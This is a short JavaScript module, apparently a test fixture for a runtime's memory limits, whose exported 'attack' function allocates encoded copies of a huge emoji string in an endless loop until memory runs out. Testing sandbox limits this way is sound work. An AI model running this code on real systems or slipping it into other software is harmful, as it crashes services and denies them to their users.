export default function attack() {
  const text = "\u{1F4A3}".repeat(1 << 22);
  const all = [];
  for (;;) all.push(new TextEncoder().encode(text));
}
